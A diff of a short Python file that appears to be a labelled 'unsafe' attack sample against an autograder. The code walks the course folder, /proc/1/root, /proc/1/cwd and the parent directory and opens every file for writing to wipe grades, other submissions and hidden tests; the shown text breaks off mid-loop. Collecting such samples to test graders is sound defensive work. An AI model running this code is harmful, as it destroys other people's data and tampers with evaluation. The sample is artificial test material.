@@ -1,13 +1,14 @@
 # title: The gradebook, other submissions and the hidden tests are overwritten and deleted
 # base: release
 # score: 0
-# flags: malformed-snapshot
 # stock: unsafe
 import os
 import shutil
 
 for top in ("@COURSE@", "/proc/1/root@COURSE@", "/proc/1/cwd", ".."):
     for folder, folders, files in os.walk(top):
+        if folder.endswith("/fd"):  # one's own pipe: other attacks forge messages
+            continue
         for name in files:
             try:
                 with open(os.path.join(folder, name), "w") as file:
